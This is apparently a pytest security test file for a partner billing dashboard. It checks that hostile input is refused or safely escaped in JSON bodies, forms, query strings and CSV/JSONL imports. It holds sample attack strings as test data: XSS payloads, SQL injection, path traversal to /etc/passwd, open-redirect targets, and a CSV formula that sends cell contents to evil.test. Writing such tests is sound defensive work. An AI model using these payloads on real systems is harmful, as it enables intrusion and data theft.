"""Hostile input everywhere input enters: JSON bodies, query strings, forms, CSV/JSONL files.

Each input either gets a clear refusal (400/413/422 naming the field, a message beside the
form field, a rejected line with its number and reason) or is stored exactly as sent and
shown safely: escaped in every page (chart labels included), never a formula in a CSV
download. Nothing answers 500. docs/security.md lists what was tried and the result.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import datetime
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
from markupsafe import escape
from sqlalchemy import func, select

from app.extensions import db
from app.models import Organization, UsageEvent

NOW = datetime(2025, 10, 20, 12)
PASSWORD = "correct horse battery"
# Closes an attribute, a tag and a script; each payload sets a flag if it ever runs.
XSS = (
    "</script><script>window.__pwned=1</script>\"'><img src=x "
    'onerror="window.__pwned=2"><svg onload=window.__pwned=3>'
)
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
WILD = "100% Real_Deal \\ 'quoted' \"double\""
UNICODE = "Zoë 🚀 東京 \u202eevil\u202c ẞtraße"
PLAIN = "Plain Company"
NAMES = [XSS, FORMULA, WILD, UNICODE, PLAIN]
RUNS = re.compile(r"<script>window|<img src=x|<svg onload|onerror=\"window", re.I)


# --- the data set ----------------------------------------------------------------------------


@pytest.fixture
def world(app, client, freeze, make_partner, make_user, api_key):
    freeze(NOW)
    partner = make_partner("acme", pool=100_000, name="Acme", created_at=datetime(2025, 1, 1))
    make_user(partner, "ops@acme.test", PASSWORD)
    key = api_key(partner)
    api = {"X-Partner-API-Key": key}
    orgs = {}
    for i, name in enumerate(NAMES):
        response = client.post(
            "/api/v1/partner/organizations",
            headers=api,
            json={
                "name": name,
                "externalId": (name if i < 2 else f"ext-{i}"),
                "tier": "paid",
                "initialCredits": 100,
                "createdAt": "2025-01-01",
                "metadata": {"note": XSS, XSS: [FORMULA, {"deep": UNICODE}]},
            },
        )
        assert response.status_code == 201, response.get_json()
        orgs[name] = response.get_json()["id"]
    events = [
        {
            "eventId": f"{i}-{d}",
            "organizationId": oid,
            "type": "identification",
            "quantity": 10 + i,
            "occurredAt": f"2025-10-{d:02d}T10:00:00Z",
        }
        for i, oid in enumerate(orgs.values())
        for d in range(1, 20)
    ]
    result = client.post("/api/v1/partner/events", headers=api, json={"events": events})
    assert result.get_json()["rejected"] == []
    return {"partner": partner, "api": api, "orgs": orgs, "client": client}


def sign_in(client) -> None:
    page = client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page).group(1)
    response = client.post(
        "/login", data={"email": "ops@acme.test", "password": PASSWORD, "csrf_token": token}
    )
    assert response.status_code == 302


def api_error(response, status: int, field: str | None = None) -> dict[str, Any]:
    """Assert a JSON error with this status (naming field) and return its body."""
    assert response.status_code == status, (response.status_code, response.get_data()[:300])
    assert response.mimetype == "application/json"
    body = response.get_json()
    assert set(body) == {"code", "message", "details"}
    if field is not None:
        assert field in json.dumps(body["details"]) or field in body["message"], body
    return body


# --- names and metadata: stored as sent, shown as text ------------------------------------


def test_hostile_text_is_stored_exactly_as_sent(world):
    client, api = world["client"], world["api"]
    for name, oid in world["orgs"].items():
        org = client.get(f"/api/v1/partner/organizations/{oid}", headers=api).get_json()
        assert org["name"] == name
        assert org["metadata"] == {"note": XSS, XSS: [FORMULA, {"deep": UNICODE}]}
    found = client.get(
        "/api/v1/partner/organizations", headers=api, query_string={"externalId": XSS}
    ).get_json()
    assert [o["name"] for o in found["organizations"]] == [XSS]


def figure_blocks(page: str) -> list[str]:
    return re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', page, re.S)


PAGES = [
    "/",
    "/?preset=last_30_days",
    "/organizations",
    "/organizations?pageSize=100",
    "/credits",
    "/billing",
    "/reports",
    "/reports/2025-10",
]


def test_every_page_shows_hostile_names_as_text(world):
    client = world["client"]
    sign_in(client)
    shown, charted = set(), set()
    for path in PAGES + [f"/organizations/{oid}" for oid in world["orgs"].values()]:
        response = client.get(path)
        assert response.status_code == 200, path
        page = response.get_data(as_text=True)
        # No payload survives as markup anywhere on the page.
        assert not RUNS.search(page), path
        if str(escape(XSS)) in page:
            shown.add(path)
        # Chart data sits in JSON script blocks: nothing in them can close the block, and
        # Plotly gets the label with its own markup characters escaped too.
        for block in figure_blocks(page):
            assert "<" not in block and ">" not in block, path
            text = json.dumps(json.loads(block))
            if "window.__pwned" in text:
                assert "&lt;script&gt;" in text, path
                charted.add(path)
                assert "<script>" not in json.loads(block).__repr__(), path
    # The name was really on the pages that list organizations (escaped, not dropped), and
    # in a chart (the overview's top organizations).
    assert {"/organizations", f"/organizations/{world['orgs'][XSS]}"} <= shown
    assert "/" in charted


def test_chart_labels_carry_the_name_escaped_for_plotly(world):
    client = world["client"]
    sign_in(client)
    page = client.get("/").get_data(as_text=True)
    labels = []
    for block in figure_blocks(page):
        labels.extend(re.findall(r"window\.__pwned=\d", block))
        spec = json.loads(block)
        for trace in spec.get("data", []):
            for axis in ("x", "y", "text", "labels", "hovertext"):
                values = trace.get(axis)
                if isinstance(values, list):
                    for value in values:
                        if isinstance(value, str) and "__pwned" in value:
                            # Plotly reads <b>, <a href> and friends in labels: they must
                            # arrive as entities, so the label is drawn as plain text.
                            assert "<" not in value, value
                            assert html.unescape(value) == XSS
    assert labels, "the hostile organization is among the charted ones"


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_csv_downloads_defuse_formulas(world):
    client = world["client"]
    sign_in(client)
    for path in ("/organizations.csv?all=1", "/reports/2025-10.csv", "/billing.csv"):
        rows = read_csv(client.get(path))
        for row in rows:
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    # Only a number may start like a formula (a negative figure).
                    assert re.fullmatch(r"-?\d+(\.\d+)?", cell), (path, cell)
        flat = [cell for row in rows for cell in row]
        if path != "/billing.csv":
            assert "'" + FORMULA in flat, path
            assert XSS in flat or "'" + XSS in flat, path
            assert WILD in flat and UNICODE in flat, path


# --- search: SQL and LIKE metacharacters are plain text ------------------------------------

SEARCHES = [
    "%",
    "_",
    "\\",
    "'",
    "''",
    '"',
    "' OR '1'='1",
    "'; DROP TABLE organization; --",
    "%' OR 1=1 --",
    "\\%",
    "[a-z]",
    "*",
    "Real_",
    "0% R",
    "script>",
    "東京",
    "🚀",
    "PLAIN",
    "zoë",
    "ZOË",
    "PLAIN COMPANY",
    "REAL_DEAL",
]


def expected_matches(search: str) -> list[str]:
    """Case-insensitive substring, worked out in Python."""
    return sorted(n for n in NAMES if search.casefold() in n.casefold())


def test_search_treats_metacharacters_as_text(world):
    client, api = world["client"], world["api"]
    sign_in(client)
    for search in SEARCHES:
        check_search(client, api, search)
    assert db.session.execute(select(func.count()).select_from(Organization)).scalar() == 5


def check_search(client, api, search: str) -> None:
    response = client.get(
        "/api/v1/partner/organizations",
        headers=api,
        query_string={"search": search, "pageSize": 100},
    )
    assert response.status_code == 200, response.get_json()
    names = sorted(o["name"] for o in response.get_json()["organizations"])
    assert names == expected_matches(search), search
    rows = read_csv(client.get("/organizations.csv", query_string={"search": search, "all": "1"}))
    index = rows[0].index("name")
    shown = sorted(
        r[index].removeprefix("'") if r[index].startswith("'=") else r[index] for r in rows[1:]
    )
    assert shown == expected_matches(search), search
    page = client.get("/organizations", query_string={"search": search})
    assert page.status_code == 200, search
    assert not RUNS.search(page.get_data(as_text=True)), search


# --- numbers --------------------------------------------------------------------------------


def raw_post(client, path: str, text: str, api: dict[str, str], method: str = "POST"):
    return client.open(
        path,
        method=method,
        data=text.encode("utf-8", "surrogatepass"),
        headers={**api, "Content-Type": "application/json"},
    )


NON_AMOUNTS = [
    '{"credits": 1000000000000000000000000000000}',
    '{"credits": 1e400}',
    '{"credits": NaN}',
    '{"credits": Infinity}',
    '{"credits": -Infinity}',
    '{"credits": -1}',
    '{"credits": 1.5}',
    '{"credits": true}',
    '{"credits": null}',
    '{"credits": "ten"}',
    '{"credits": []}',
    '{"credits": {}}',
    '{"credits": 1' + "0" * 5000 + "}",
]


def test_allocation_refuses_every_non_amount(world):
    client, api = world["client"], world["api"]
    oid = world["orgs"][PLAIN]
    for body in NON_AMOUNTS:
        response = raw_post(
            client, f"/api/v1/partner/organizations/{oid}/credits", body, api, method="PUT"
        )
        data = api_error(response, 400)
        assert data["details"].get("field") in ("credits", "body"), (body[:60], data)
    assert db.session.get(Organization, oid).credits_allocated == 100


def test_zero_is_a_valid_amount_and_quantity(world):
    client, api = world["client"], world["api"]
    oid = world["orgs"][PLAIN]
    response = client.put(
        f"/api/v1/partner/organizations/{oid}/credits", headers=api, json={"credits": 0}
    )
    assert response.status_code == 200
    assert response.get_json()["allocation"]["creditsAllocated"] == 0
    result = client.post(
        "/api/v1/partner/events",
        headers=api,
        json={
            "events": [
                {
                    "eventId": "zero",
                    "organizationId": oid,
                    "type": "identification",
                    "quantity": 0,
                    "occurredAt": "2025-10-19T10:00:00Z",
                }
            ]
        },
    ).get_json()
    assert (result["accepted"], result["rejected"]) == (1, [])
    calc = client.get("/api/v1/partner/billing/calculate?usage=0", headers=api).get_json()
    assert calc["totalCost"] == 0


BAD_USAGE = [
    "usage=-1",
    "usage=1e3",
    "usage=NaN",
    "usage=inf",
    "usage=Infinity",
    "usage=0x10",
    "usage=%205",
    "usage=1.0",
    "usage=" + "9" * 40,
    "usage=%EF%BC%95",
    "usage=",
    "usage=1%00",
]


def test_calculate_refuses_bad_numbers(world):
    for query in BAD_USAGE:
        response = world["client"].get(
            f"/api/v1/partner/billing/calculate?{query}", headers=world["api"]
        )
        api_error(response, 400, "usage")
    # A repeated parameter with one bad value is refused too (never priced from either).
    twice = world["client"].get(
        "/api/v1/partner/billing/calculate?usage=1&usage=%27", headers=world["api"]
    )
    api_error(twice, 400, "usage")


LIST_PARAMS = [
    ("page=0", "page"),
    ("page=-1", "page"),
    ("page=" + "9" * 30, "page"),
    ("pageSize=0", "pageSize"),
    ("pageSize=101", "pageSize"),
    ("pageSize=NaN", "pageSize"),
    ("status=%27%3B--", "status"),
    ("search=" + "x" * 201, "search"),
    ("externalId=" + "x" * 201, "externalId"),
]


def test_list_parameters_out_of_range(world):
    for query, field in LIST_PARAMS:
        response = world["client"].get(
            f"/api/v1/partner/organizations?{query}", headers=world["api"]
        )
        api_error(response, 400, field)


QUANTITIES = [
    (10**30, "invalid_quantity"),
    (-1, "invalid_quantity"),
    (1.5, "invalid_quantity"),
    ("1e3", "invalid_quantity"),
    ("NaN", "invalid_quantity"),
    ("-0", "invalid_quantity"),  # text is [0-9]{1,10} only (issue 12)
    (True, "invalid_quantity"),
    ([], "invalid_quantity"),
    (1_000_000_001, "invalid_quantity"),
    (1_000_000_000, None),
]


def test_event_quantities(world):
    client, api = world["client"], world["api"]
    result = client.post(
        "/api/v1/partner/events",
        headers=api,
        json={
            "events": [
                {
                    "eventId": f"q-{quantity!r}",
                    "organizationId": world["orgs"][PLAIN],
                    "type": "page_view",
                    "quantity": quantity,
                    "occurredAt": "2025-10-19T10:00:00Z",
                }
                for quantity, _code in QUANTITIES
            ]
        },
    )
    assert result.status_code == 200
    data = result.get_json()
    assert data["accepted"] == sum(1 for _q, code in QUANTITIES if code is None)
    assert [(r["index"], r["code"]) for r in data["rejected"]] == [
        (i, code) for i, (_q, code) in enumerate(QUANTITIES) if code is not None
    ]


def test_non_finite_numbers_anywhere_in_a_body_are_refused(world):
    for literal in ("NaN", "Infinity", "-Infinity", "1e400", "-1e400"):
        check_non_finite(world, literal)


def check_non_finite(world, literal: str) -> None:
    event = json.dumps(
        {
            "eventId": "nan",
            "organizationId": world["orgs"][PLAIN],
            "type": "page_view",
            "quantity": 7,
            "occurredAt": "2025-10-19T10:00:00Z",
        }
    )
    body = '{"events": [' + event.replace('"quantity": 7', f'"quantity": {literal}') + "]}"
    api_error(raw_post(world["client"], "/api/v1/partner/events", body, world["api"]), 400, "body")
    assert (
        db.session.execute(select(UsageEvent).where(UsageEvent.event_id == "nan")).first() is None
    )


# --- long strings, unicode and control characters -------------------------------------------

ORG_BODIES = [
    ({"name": "x" * 201}, "name"),
    ({"name": "x" * 100_000}, "name"),
    ({"name": ""}, "name"),
    ({"name": "   "}, "name"),
    ({"name": "ok", "externalId": "x" * 201}, "externalId"),
    ({"name": "nul\x00byte"}, "name"),
    ({"name": "ok", "metadata": {"k": "a\x00"}}, "metadata"),
    ({"name": "ok", "metadata": {"k\x00": 1}}, "metadata"),
    ({"name": "ok", "metadata": "not an object"}, "metadata"),
    ({"name": "ok", "metadata": [1, 2]}, "metadata"),
    ({"name": "ok", "createdAt": "0001-01-01"}, "createdAt"),
    ({"name": "ok", "createdAt": "9999-12-31"}, "createdAt"),
    ({"name": "ok", "createdAt": "2025-02-30"}, "createdAt"),
    ({"name": "ok", "createdAt": "2025-10-01T10:00:00+99:00"}, "createdAt"),
    ({"name": "ok", "initialCredits": 10**13}, "initialCredits"),
    ({"name": "ok", "tier": "<script>"}, "tier"),
]


def test_organization_bodies_refused_with_the_field(world):
    for body, field in ORG_BODIES:
        response = world["client"].post(
            "/api/v1/partner/organizations", headers=world["api"], json=body
        )
        data = api_error(response, 400, field)
        assert not RUNS.search(json.dumps(data))
    assert db.session.execute(select(func.count()).select_from(Organization)).scalar() == 5


def test_lone_surrogates_in_a_body_are_refused(world):
    body = '{"name": "bad \\ud800 text"}'
    data = api_error(
        raw_post(world["client"], "/api/v1/partner/organizations", body, world["api"]), 400, "name"
    )
    assert "Unicode" in data["message"]


def test_long_notes_and_huge_metadata(world):
    client, api = world["client"], world["api"]
    oid = world["orgs"][PLAIN]
    api_error(
        client.put(
            f"/api/v1/partner/organizations/{oid}/credits",
            headers=api,
            json={"credits": 5, "notes": "n" * 2001},
        ),
        400,
        "notes",
    )
    # A metadata object the size of the whole body limit is refused, not stored.
    big = {"blob": "m" * (3 * 1024 * 1024)}
    response = client.patch(
        f"/api/v1/partner/organizations/{oid}", headers=api, json={"metadata": big}
    )
    api_error(response, 400, "metadata")


HOSTILE_EVENTS = [
    ({"eventId": "x" * 256}, "invalid_event_id"),
    ({"eventId": ""}, "invalid_event_id"),
    ({"eventId": "   "}, "invalid_event_id"),
    ({"eventId": None}, "invalid_event_id"),
    ({"eventId": {"$gt": ""}}, "invalid_event_id"),
    ({"type": "<script>"}, "invalid_type"),
    ({"type": "x" * 65}, "invalid_type"),
    ({"type": "Identification"}, "invalid_type"),
    ({"organizationId": "' OR 1=1 --"}, "unknown_organization"),
    ({"organizationId": None, "externalId": "%"}, "unknown_organization"),
    ({"occurredAt": "1999-12-31T23:59:59Z"}, "invalid_occurred_at"),
    ({"occurredAt": "0001-01-01T00:00:00+01:00"}, "invalid_occurred_at"),
    ({"occurredAt": "9999-12-31T23:59:59-14:00"}, "invalid_occurred_at"),
    ({"occurredAt": "2025-10-20T14:00:00Z"}, "invalid_occurred_at"),  # 2 h ahead
    ({"occurredAt": "2025-02-30T10:00:00Z"}, "invalid_occurred_at"),
    ({"occurredAt": "2025-10-01"}, "invalid_occurred_at"),
    ({"occurredAt": "yesterday"}, "invalid_occurred_at"),
    ({"occurredAt": 1760000000}, "invalid_occurred_at"),
]


def test_hostile_events_are_rejected_one_by_one(world):
    base = {
        "organizationId": world["orgs"][PLAIN],
        "type": "page_view",
        "quantity": 1,
        "occurredAt": "2025-10-19T10:00:00Z",
    }
    events = [{"eventId": f"h{i}", **base, **event} for i, (event, _c) in enumerate(HOSTILE_EVENTS)]
    data = (
        world["client"]
        .post(
            "/api/v1/partner/events",
            headers=world["api"],
            json={"events": [*events, {"eventId": "good-one", **base}]},
        )
        .get_json()
    )
    assert data["accepted"] == 1
    assert [(r["index"], r["code"]) for r in data["rejected"]] == [
        (i, code) for i, (_e, code) in enumerate(HOSTILE_EVENTS)
    ]


def test_unicode_and_markup_in_event_ids_are_stored_as_text(world):
    ids = [XSS[:200], UNICODE, "'; DROP TABLE usage_event; --", "=1+1"]
    data = (
        world["client"]
        .post(
            "/api/v1/partner/events",
            headers=world["api"],
            json={
                "events": [
                    {
                        "eventId": i,
                        "organizationId": world["orgs"][PLAIN],
                        "type": "session",
                        "occurredAt": "2025-10-19T10:00:00Z",
                    }
                    for i in ids
                ]
            },
        )
        .get_json()
    )
    assert (data["accepted"], data["rejected"]) == (4, [])
    stored = set(db.session.execute(select(UsageEvent.event_id)).scalars())
    assert set(ids) <= stored


# --- dates in query strings -----------------------------------------------------------------

BAD_PERIODS = [
    ("startDate=0001-01-01", "startDate"),
    ("endDate=9999-12-31", "endDate"),
    ("startDate=1969-12-31", "startDate"),
    ("endDate=3000-01-01", "endDate"),
    ("startDate=2025-02-30", "startDate"),
    ("startDate=2025-13-01", "startDate"),
    ("startDate=2025-10-01T25:00:00", "startDate"),
    ("startDate=2025-10-01T10:00:00%2B99:00", "startDate"),
    ("startDate=" + "2" * 10_000, "startDate"),
    ("startDate=%3Cscript%3E", "startDate"),
    ("startDate=2025-10-02&endDate=2025-10-01", "startDate"),
    ("startDate=2000-01-01&endDate=2025-01-01", "Date"),  # the span: either end
    ("granularity=<script>", "granularity"),
    ("compare=%27", "compare"),
]


def test_bad_periods_are_400_naming_the_field(world):
    for query, field in BAD_PERIODS:
        response = world["client"].get(
            f"/api/v1/partner/analytics/timeseries?{query}", headers=world["api"]
        )
        data = api_error(response, 400, field)
        assert not RUNS.search(json.dumps(data))


MONTHS = ["0000-01", "9999-12", "2025-13", "2025-1", "<script>", "10000-01", "2025-10%00"]


def test_report_months_out_of_range(world):
    sign_in(world["client"])
    for month in MONTHS:
        response = world["client"].get(f"/api/v1/partner/reports/{month}", headers=world["api"])
        assert response.status_code in (400, 404), month
        api_error(response, response.status_code)
        for path in (f"/reports/{month}", f"/reports/{month}.csv", f"/reports/{month}.json"):
            page = world["client"].get(path)
            assert page.status_code in (400, 404), path
            assert not RUNS.search(page.get_data(as_text=True))


PAGE_QUERIES = [
    "startDate=0001-01-01&endDate=0001-01-02",
    "endDate=9999-12-31",
    "preset=%3Cscript%3E",
    "startDate=%22%3E%3Cscript%3Ewindow.__pwned%3D1%3C%2Fscript%3E",
    "granularity=%27",
    "startDate=" + "9" * 5000,
    "status=%27%22%3E",
    "sort=%3Cx%3E",
    "order=sideways",
    "page=-5",
    "page=" + "9" * 40,
    "pageSize=NaN",
    "search=%00",
]


def test_pages_survive_hostile_query_strings(world):
    client = world["client"]
    sign_in(client)
    for query in PAGE_QUERIES:
        check_page_query(client, world, query)


def check_page_query(client, world, query: str) -> None:
    for path in (
        "/",
        "/organizations",
        "/credits",
        "/billing",
        "/reports/2025-10",
        f"/organizations/{world['orgs'][PLAIN]}",
        "/organizations.csv",
    ):
        response = client.get(f"{path}?{query}")
        assert response.status_code in (200, 400), (path, query, response.status_code)
        if path.endswith(".csv") and response.status_code == 200:
            # Data, not a page: a download that browsers do not render (nosniff).
            assert response.headers["Content-Disposition"].startswith("attachment")
            continue
        assert not RUNS.search(response.get_data(as_text=True)), (path, query)


def test_a_bad_date_is_explained_beside_the_field(world):
    client = world["client"]
    sign_in(client)
    page = client.get("/?startDate=0001-01-01&endDate=2025-10-01").get_data(as_text=True)
    assert "1970" in page  # the message names the earliest date accepted


# --- sizes ------------------------------------------------------------------------------------


def test_oversized_bodies_answer_413(world):
    client, api = world["client"], world["api"]
    blob = '{"events": [' + ",".join(['{"eventId": "%s"}' % ("x" * 200)] * 25_000) + "]}"
    assert len(blob) > 4 * 1024 * 1024
    data = api_error(raw_post(client, "/api/v1/partner/events", blob, api), 413)
    assert data["code"] == "PayloadTooLarge"
    sign_in(client)
    oid = world["orgs"][PLAIN]
    page = client.post(
        f"/organizations/{oid}/allocation", data={"credits": "1", "notes": "n" * (5 * 1024 * 1024)}
    )
    assert page.status_code == 413
    assert db.session.get(Organization, oid).credits_allocated == 100


def test_batches_over_1000_events_are_refused_whole(world):
    events = [
        {
            "eventId": f"big-{i}",
            "organizationId": world["orgs"][PLAIN],
            "type": "page_view",
            "occurredAt": "2025-10-19T10:00:00Z",
        }
        for i in range(1001)
    ]
    api_error(
        world["client"].post(
            "/api/v1/partner/events", headers=world["api"], json={"events": events}
        ),
        400,
        "events",
    )
    assert (
        db.session.execute(
            select(func.count()).select_from(UsageEvent).where(UsageEvent.event_id.like("big-%"))
        ).scalar()
        == 0
    )


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({"X-Partner-API-Key": "pk_live_" + "a" * 10_000}, 401),
        ({"X-Partner-API-Key": "pk_live_' OR '1'='1"}, 401),
        ({"X-Partner-API-Key": "pk_live_%00"}, 401),
        ({"Content-Type": "text/html"}, 415),  # with the valid key
    ],
)
def test_hostile_headers(world, headers, status):
    response = world["client"].post(
        "/api/v1/partner/events", headers={**world["api"], **headers}, json={"events": []}
    )
    api_error(response, status)


def test_unrouted_and_wrong_method_api_requests_answer_json(world):
    client = world["client"]
    for path in (
        "/api/v1/<script>",
        "/api/v1/partner/organizations/" + "x" * 5000,
        "/api/v1/partner/organizations/..%2F..%2Fetc%2Fpasswd",
    ):
        response = client.get(path, headers=world["api"])
        assert response.status_code == 404
        api_error(response, 404)
    api_error(client.put("/api/v1/partner/analytics", headers=world["api"]), 405)


# --- forms ------------------------------------------------------------------------------------


def csrf(client, path: str) -> str:
    page = client.get(path).get_data(as_text=True)
    return re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page).group(1)


def test_allocation_form_refuses_non_amounts_beside_the_field(world):
    client = world["client"]
    sign_in(client)
    for credits in (
        "1e400",
        "NaN",
        "-5",
        "9" * 40,
        "1.5",
        "",
        "<script>",
        "0x10",
        "1_000",
        " 7 7 ",
        "٣",
        "５",
    ):
        check_allocation_form(client, world, credits)


def check_allocation_form(client, world, credits: str) -> None:
    oid = world["orgs"][PLAIN]
    response = client.post(
        f"/organizations/{oid}/allocation",
        data={
            "credits": credits,
            "notes": XSS,
            "csrf_token": csrf(client, f"/organizations/{oid}"),
        },
    )
    # Digits of other scripts ("٣", "５") are refused like any non-amount: the API takes
    # ASCII digits only, and the form follows the API's rules.
    assert response.status_code in (400, 422), credits
    page = response.get_data(as_text=True)
    assert re.search(
        r'<p class="field-error" id="credits-error" data-error-for="credits">'
        r"[^<]+</p>",
        page,
    ), credits
    assert not RUNS.search(page)
    db.session.expire_all()
    assert db.session.get(Organization, oid).credits_allocated == 100


def test_allocation_notes_are_stored_and_shown_as_text(world):
    client = world["client"]
    sign_in(client)
    oid = world["orgs"][PLAIN]
    response = client.post(
        f"/organizations/{oid}/allocation",
        data={"credits": "60", "notes": XSS, "csrf_token": csrf(client, f"/organizations/{oid}")},
    )
    assert response.status_code == 302
    page = client.get(f"/organizations/{oid}").get_data(as_text=True)
    assert not RUNS.search(page)
    assert str(escape(XSS)) in page


def test_login_form_survives_hostile_credentials(world):
    client = world["client"]
    for email, password in (
        ("x" * 10_000 + "@acme.test", "whatever1"),
        ("ops@acme.test", "p" * 100_000),
        ("' OR '1'='1", "' OR '1'='1"),
        ("ops@acme.test\x00", PASSWORD),
        (XSS, XSS),
    ):
        response = client.post(
            "/login",
            data={"email": email, "password": password, "csrf_token": csrf(client, "/login")},
        )
        assert response.status_code in (400, 401), email[:40]
        assert not RUNS.search(response.get_data(as_text=True))
        assert client.get("/").status_code == 302


OFF_SITE = [
    "//evil.test/",
    "https://evil.test/",
    "/\\evil.test",
    "javascript:alert(1)",
    "\\\\evil.test",
    "/%2F%2Fevil.test",
    "http:evil.test",
    " //evil.test",
]


def test_login_never_redirects_off_site(world):
    for target in OFF_SITE:
        check_redirect(world["client"].application.test_client(), target)


def check_redirect(client, target: str) -> None:
    response = client.post(
        "/login",
        data={
            "email": "ops@acme.test",
            "password": PASSWORD,
            "next": target,
            "csrf_token": csrf(client, "/login"),
        },
    )
    assert response.status_code == 302
    location = response.headers["Location"]
    # Where a browser goes: resolved against the page's own URL, it stays on this site.
    resolved = urlsplit(urljoin("https://dashboard.test/login", location))
    assert (resolved.scheme, resolved.netloc) == ("https", "dashboard.test"), location
    assert location.startswith("/") and not location.startswith(("//", "/\\")), location


# --- files --------------------------------------------------------------------------------


def test_hostile_jsonl_lines_are_rejected_with_their_line(world, runner, tmp_path):
    oid = world["orgs"][PLAIN]
    good = {
        "eventId": "f-ok",
        "organizationId": oid,
        "type": "page_view",
        "occurredAt": "2025-10-19T10:00:00Z",
    }

    def line(**changes: Any) -> str:
        return json.dumps({**good, **changes})

    lines = [
        line(eventId="f-ok"),  # 1 ok
        line(eventId="f-nan").replace('"page_view"', '"page_view", "quantity": NaN'),  # 2
        line(eventId="f-inf").replace('"page_view"', '"page_view", "quantity": Infinity'),
        line(eventId="f-huge", quantity=10**30),  # 4
        line(eventId="f-neg", quantity=-3),  # 5
        line(eventId="a\u0000b"),  # 6 NUL
        line(eventId="s-SURROGATE").replace("s-SURROGATE", "s\\ud800"),  # 7 lone surrogate
        "[" * 100_000 + "]" * 100_000,  # 8 deep nesting
        line(eventId="x" * 1_000_000),  # 9 1 MB id
        line(eventId=XSS[:200]),  # 10 ok, as text
        line(eventId="f-date", occurredAt="9999-12-31T23:59:59-14:00"),  # 11
        '{"eventId": "f-trunc", ',  # 12
        line(eventId=UNICODE),  # 13 ok
    ]
    path = tmp_path / "hostile.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8", errors="surrogatepass")
    result = runner.invoke(args=["ingest", str(path), "--partner", "acme"])
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    rejected = dict(re.findall(r"^line (\d+): (\w+):", result.output, re.M))
    assert rejected == {
        "2": "invalid_json",
        "3": "invalid_json",
        "4": "invalid_quantity",
        "5": "invalid_quantity",
        "6": "invalid_event_id",
        "7": "invalid_event_id",
        "8": "invalid_json",
        "9": "invalid_event_id",
        "11": "invalid_occurred_at",
        "12": "invalid_json",
    }
    assert "accepted: 3" in result.output
    stored = set(db.session.execute(select(UsageEvent.event_id)).scalars())
    assert {"f-ok", XSS[:200], UNICODE} <= stored


def test_hostile_csv_cells_are_rejected_or_stored_as_text(world, runner, tmp_path):
    oid = world["orgs"][PLAIN]
    header = "eventId,organizationId,externalId,type,quantity,occurredAt"
    rows = [
        f"c-ok,{oid},,page_view,1,2025-10-19T10:00:00Z",  # 2 ok
        f'"=HYPERLINK(""http://evil.test"")",{oid},,page_view,1,2025-10-19T10:00:00Z',  # 3 ok
        f"c-nan,{oid},,page_view,NaN,2025-10-19T10:00:00Z",  # 4
        f"c-exp,{oid},,page_view,1e3,2025-10-19T10:00:00Z",  # 5
        f"c-hex,{oid},,page_view,0x10,2025-10-19T10:00:00Z",  # 6
        f"c-neg,{oid},,page_view,-1,2025-10-19T10:00:00Z",  # 7
        f"c-cols,{oid},,page_view,1,2025-10-19T10:00:00Z,extra",  # 8
        f'c-sql,{oid},"\'; DROP TABLE usage_event; --",page_view,1,2025-10-19T10:00:00Z',  # 9
        f'"c-\x00nul",{oid},,page_view,1,2025-10-19T10:00:00Z',  # 10
        f'c-big,{oid},,page_view,1,"{"9" * 200_000}"',  # 11
        f'"c-multi\nline",{oid},,page_view,1,2025-10-19T10:00:00Z',  # 12-13 ok
        f"c-last,{oid},,page_view,1,2025-10-19T10:00:00Z",  # 14 ok
    ]
    path = tmp_path / "hostile.csv"
    path.write_text(header + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    result = runner.invoke(args=["ingest", str(path), "--partner", "acme"])
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    rejected = dict(re.findall(r"^line (\d+): (\w+):", result.output, re.M))
    assert rejected == {
        "4": "invalid_quantity",
        "5": "invalid_quantity",
        "6": "invalid_quantity",
        "7": "invalid_quantity",
        "8": "invalid_csv",
        "9": "unknown_organization",
        "10": "invalid_event_id",
        "11": "invalid_csv",
    }, result.output
    assert "accepted: 4" in result.output
    stored = set(db.session.execute(select(UsageEvent.event_id)).scalars())
    assert {"c-ok", '=HYPERLINK("http://evil.test")', "c-multi\nline", "c-last"} <= stored


def test_a_file_that_is_not_utf8_is_refused_clearly(world, runner, tmp_path):
    path = tmp_path / "latin1.jsonl"
    path.write_bytes(b'{"eventId": "caf\xe9"}\n')
    result = runner.invoke(args=["ingest", str(path), "--partner", "acme"])
    assert result.exit_code != 0
    assert "UTF-8" in result.output and "Traceback" not in result.output


def test_nul_characters_in_page_requests_are_refused(world):
    # PostgreSQL cannot take a NUL in a text parameter; the pages refuse it up front.
    client = world["client"]
    sign_in(client)
    oid = world["orgs"][PLAIN]
    token = csrf(client, f"/organizations/{oid}")
    for method, path, data in (
        ("GET", "/organizations?search=a%00b", None),
        ("GET", "/organizations?externalId=%00", None),
        ("GET", "/organizations/ab%00cd", None),
        ("GET", "/reports/2025-10%00", None),
        (
            "POST",
            f"/organizations/{oid}/allocation",
            {"credits": "5", "notes": "a\x00b", "csrf_token": token},
        ),
    ):
        response = client.open(path, method=method, data=data)
        assert response.status_code == 400, path
        assert "NUL" in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(Organization, oid).credits_allocated == 100


# --- in a real browser: nothing runs, nothing breaks the policy ----------------------------

CHROMIUM = "/usr/bin/chromium"
LAUNCH_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
]
WATCH = """
window.__cspViolations = [];
document.addEventListener('securitypolicyviolation', function (e) {
  window.__cspViolations.push(e.violatedDirective + ' ' + (e.blockedURI || ''));
});
"""
ALL_DRAWN = """() => Array.from(document.querySelectorAll('.chart'))
                 .every(function (c) { return c.dataset.drawn === 'true'; })"""


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory):
    """A live server on 127.0.0.1 over a SQLite file full of hostile names."""
    import threading
    from datetime import timedelta

    from werkzeug.serving import make_server

    from app import accounts, auth, create_app, ingest
    from app.timeutil import utcnow

